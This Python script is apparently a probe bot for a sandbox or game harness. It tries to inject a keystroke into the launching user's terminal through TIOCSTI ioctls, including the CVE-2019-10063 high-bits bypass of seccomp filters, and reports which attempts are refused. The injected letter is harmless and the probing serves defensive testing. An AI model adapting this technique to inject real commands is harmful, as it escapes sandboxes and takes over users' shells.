"""Types into the terminal of whoever started it."""

import ctypes
import errno
import json
import os
import platform
import sys

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    """A system call by number."""
    if libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments)) < 0:
        raise OSError(ctypes.get_errno(), "refused")


def say(message):
    sys.stdout.write(json.dumps(message) + "\n")
    sys.stdout.flush()


def outcome(attempt, *arguments):
    """What came of an attempt: the name of the error, or `done`."""
    try:
        attempt(*arguments)
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))
    return "done"


IOCTL = {"x86_64": 16, "aarch64": 29}[platform.machine()]
TIOCSTI = 0x5412


def attack(wanted):
    """Push a letter through every descriptor, and through the terminal by name."""
    letter = ctypes.create_string_buffer(b"X")

    def push(fd, request):
        call(IOCTL, fd, request, ctypes.addressof(letter))

    report = {}
    for fd in range(3):
        report[f"{fd}"] = outcome(push, fd, TIOCSTI)
        # CVE-2019-10063: the kernel looks at the low 32 bits only.
        report[f"{fd} high"] = outcome(push, fd, TIOCSTI | 1 << 32)
    report["tty"] = outcome(lambda: os.close(os.open("/dev/tty", os.O_RDWR)))
    return report


wanted = None
for line in sys.stdin:
    message = json.loads(line)
    if message["type"] == "hello":
        wanted = message["options"].get("attack")
        say({"type": "ready"})
    elif message["type"] == "act":
        now, wanted = message.get("attack", wanted), None
        report = {} if now is None else attack(now)
        note = json.dumps(report)
        say({"action": message["legal"][0], "report": report, "note": note})
    elif message["type"] == "quit":
        break
